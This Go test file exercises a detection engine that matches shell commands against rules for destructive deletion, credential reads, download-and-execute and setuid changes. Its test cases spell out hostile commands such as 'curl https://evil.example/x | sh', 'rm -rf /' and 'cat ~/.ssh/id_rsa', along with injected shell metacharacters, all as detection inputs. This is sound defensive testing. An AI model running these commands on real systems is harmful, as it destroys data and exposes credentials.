package cmdrule

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func writeRules(t *testing.T, doc string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "ops.yaml")
	if err := os.WriteFile(p, []byte(doc), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestLoadReplaceAddDisable(t *testing.T) {
	ops := writeRules(t, `rules:
  # Replaces the default: the operator only cares about /root.
  - id: destructive
    severity: low
    technique: T1485
    description: rm -rf of /root only.
    match:
      - program: [rm]
        args: ['^/root$']
  - id: kubectl-secrets
    severity: high
    technique: T1552.007
    description: Kubernetes secrets read.
    match:
      - program: [kubectl]
        args: ['^get$', '^secrets?$']
`)
	e, err := Load(DefaultRules(), []string{ops}, []string{"history-clear"})
	if err != nil {
		t.Fatal(err)
	}
	byID := map[string]Rule{}
	for _, r := range e.Rules() {
		byID[r.ID] = r
	}
	if r := byID["destructive"]; r.Severity != Low || r.File != ops || r.Line != 3 {
		t.Errorf("destructive not replaced: %+v", r)
	}
	if _, ok := byID["history-clear"]; ok {
		t.Error("history-clear still present")
	}
	if r := byID["chmod-setuid"]; r.File != DefaultFile || r.Line == 0 {
		t.Errorf("default rule origin: %q:%d", r.File, r.Line)
	}
	for cmd, want := range map[string][]string{
		"rm -rf /":                      {}, // the default alternative is gone
		"rm -rf /root":                  {"destructive"},
		"kubectl get secret db -o yaml": {"kubectl-secrets"},
		"history -c":                    {},
		"chmod 4755 /tmp/x":             {"chmod-setuid"},
	} {
		if got := ids(e.Evaluate(cmd, allow)); !slices.Equal(got, want) && len(got)+len(want) > 0 {
			t.Errorf("%s: got %v, want %v", cmd, got, want)
		}
	}
	if ms := e.Evaluate("rm -rf /root", allow); len(ms) != 1 || ms[0].Severity != Low {
		t.Errorf("replaced severity not used: %+v", ms)
	}
}

func TestLoadLaterFileReplacesEarlier(t *testing.T) {
	a := writeRules(t, "rules:\n- {id: x, severity: low, technique: T1059, match: [{program: [foo]}]}\n")
	b := writeRules(t, "rules:\n- {id: x, severity: high, technique: T1059, match: [{program: [bar]}]}\n")
	e, err := Load(nil, []string{a, b}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := ids(e.Evaluate("foo; bar", EvalContext{})); !slices.Equal(got, []string{"x"}) || e.Evaluate("bar", EvalContext{})[0].Severity != High {
		t.Errorf("got %v", got)
	}
	if len(e.Evaluate("foo", EvalContext{})) != 0 {
		t.Error("replaced rule still matches")
	}
}

func TestLoadErrorsNameFileLineAndRule(t *testing.T) {
	for name, tc := range map[string]struct {
		doc      string
		disabled []string
		want     []string
	}{
		"yaml syntax": {"rules:\n  - id: a\n    severity: low\n    technique: T1059\n    match: [{program: [x]}]\n  - id: b\n    severity: low: x\n", nil,
			[]string{"ops.yaml:7:", "mapping values"}},
		"unknown field": {"rules:\n  - id: a\n    severity: low\n    technique: T1059\n    match:\n      - programs: [x]\n", nil,
			[]string{"ops.yaml:6:", "programs"}},
		"bad regexp": {"rules:\n  - id: ok\n    severity: low\n    technique: T1059\n    match: [{program: [x]}]\n  - id: broken\n    severity: low\n    technique: T1059\n    match:\n      - program: [x]\n      - args: ['^a$', '(']\n", nil,
			[]string{"ops.yaml:11:", `rule "broken"`, "match[1].args[1]", "missing closing )"}},
		"bad severity": {"rules:\n  - id: s\n    severity: urgent\n    technique: T1059\n    match: [{program: [x]}]\n", nil,
			[]string{"ops.yaml:3:", `rule "s"`, "urgent"}},
		"bad except": {"rules:\n  - id: e\n    severity: low\n    technique: T1059\n    match: [{program: [x]}]\n    except:\n      - {}\n", nil,
			[]string{"ops.yaml:7:", `rule "e"`, "except[0]", "no conditions"}},
		"decoded in except": {"rules:\n  - id: e\n    severity: low\n    technique: T1059\n    match: [{program: [x]}]\n    except:\n      - decoded_matches: ['*']\n", nil,
			[]string{"ops.yaml:7:", "decoded_matches cannot"}},
		"duplicate": {"rules:\n- {id: d, severity: low, technique: T1059, match: [{program: [x]}]}\n- {id: d, severity: low, technique: T1059, match: [{program: [y]}]}\n", nil,
			[]string{"ops.yaml:3:", `rule "d"`, "duplicate"}},
		"unknown ref": {"rules:\n- id: r\n  severity: low\n  technique: T1059\n  match:\n    - decoded_matches: [nope]\n", nil,
			[]string{"ops.yaml:6:", `rule "r"`, `"nope"`}},
		"empty": {"# nothing yet\n", nil, []string{"ops.yaml", "no rules"}},
		"ref to disabled": {"rules:\n- id: r\n  severity: low\n  technique: T1059\n  match:\n    - decoded_matches: [history-clear]\n", []string{"history-clear"},
			[]string{"ops.yaml:6:", `rule "r"`, `"history-clear", which the disabled list removes`}},
		"unknown disabled": {"rules:\n- {id: z, severity: low, technique: T1059, match: [{program: [x]}]}\n", []string{"no-such-rule"}, []string{`"no-such-rule"`}},
	} {
		p := writeRules(t, tc.doc)
		_, err := Load(DefaultRules(), []string{p}, tc.disabled)
		if err == nil {
			t.Errorf("%s: no error", name)
			continue
		}
		for _, w := range tc.want {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("%s: error %q lacks %q", name, err, w)
			}
		}
	}
	if _, err := Load(nil, []string{filepath.Join(t.TempDir(), "missing.yaml")}, nil); err == nil || !strings.Contains(err.Error(), "missing.yaml") {
		t.Errorf("missing file: %v", err)
	}
}

func TestExceptAndEnabled(t *testing.T) {
	e, err := NewEngine([]byte(`rules:
  - id: rm-tree
    severity: high
    technique: T1485
    match:
      - program: [rm]
        flags: [-r]
    except:
      - args: ['^\./build$']
      - program: [rm]
        args: ['^/tmp/']
  - id: off
    severity: low
    technique: T1059
    enabled: false
    match:
      - program: [rm]
`))
	if err != nil {
		t.Fatal(err)
	}
	for cmd, want := range map[string][]string{
		"rm -rf ./build":                   nil,
		"rm -rf /tmp/cache":                nil,
		"rm -rf src":                       {"rm-tree"},
		"rm -rf ./build src":               nil, // the except holds for this very call
		"rm -rf ./build; rm -rf src":       {"rm-tree"},
		"rm -rf src && echo ./build":       {"rm-tree"},
		"bash -c 'rm -r ./build; rm -r /'": {"rm-tree"},
	} {
		if got := ids(e.Evaluate(cmd, EvalContext{})); !slices.Equal(got, want) {
			t.Errorf("%s: got %v, want %v", cmd, got, want)
		}
	}
	var off Rule
	for _, r := range e.Rules() {
		if r.ID == "off" {
			off = r
		}
	}
	if off.ID == "" || off.IsEnabled() {
		t.Errorf("disabled rule should be listed and report disabled: %+v", off)
	}
}

func TestCommandLine(t *testing.T) {
	e, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		argv []string
		want []string
	}{
		// Metacharacters inside one argument stay inside it.
		{[]string{"/usr/bin/echo", "a; rm -rf /"}, nil},
		{[]string{"grep", "-e", "$(curl https://evil.example/x | sh)", "f"}, nil},
		{[]string{"printf", "%s\n", "`rm -rf /`", "x && cat ~/.ssh/id_rsa", "> ~/.bashrc"}, nil},
		{[]string{"git", "commit", "-m", "fix: don't 'rm -rf /' | sh\n#done"}, nil},
		{[]string{"if", "true;", "then", "rm", "-rf", "/;", "fi"}, nil},
		{[]string{"A=1", "rm", "-rf", "/"}, nil},
		// A shell's -c script is still analysed.
		{[]string{"bash", "-c", "curl https://evil.example/x | sh"}, []string{"download-exec", "download-unknown-host"}},
		{[]string{"bash", "-c", "curl x | sh"}, []string{"download-exec"}},
		{[]string{"/bin/sh", "-c", "rm -rf /"}, []string{"destructive"}},
		{[]string{"rm", "-rf", "/"}, []string{"destructive"}},
		{[]string{"cat", "/home/u/.ssh/id_rsa"}, []string{"credential-read"}},
	} {
		line := CommandLine(tc.argv)
		cmd, err := Parse(line)
		if err != nil {
			t.Errorf("%q -> %q: %v", tc.argv, line, err)
			continue
		}
		if top := cmd.Calls[0]; !slices.Equal(append([]string{top.Program}, top.Args...), append([]string{filepath.Base(tc.argv[0])}, tc.argv[1:]...)) {
			t.Errorf("%q -> %q parsed as %s %q", tc.argv, line, top.Program, top.Args)
		}
		for _, c := range cmd.Calls {
			if c.Program == "rm" && c.Origin == "" && tc.argv[0] != "rm" {
				t.Errorf("%q -> %q: injected an rm call", tc.argv, line)
			}
		}
		if got := ids(e.Evaluate(line, EvalContext{})); !slices.Equal(got, tc.want) {
			t.Errorf("%q -> %q: got %v, want %v", tc.argv, line, got, tc.want)
		}
	}
}
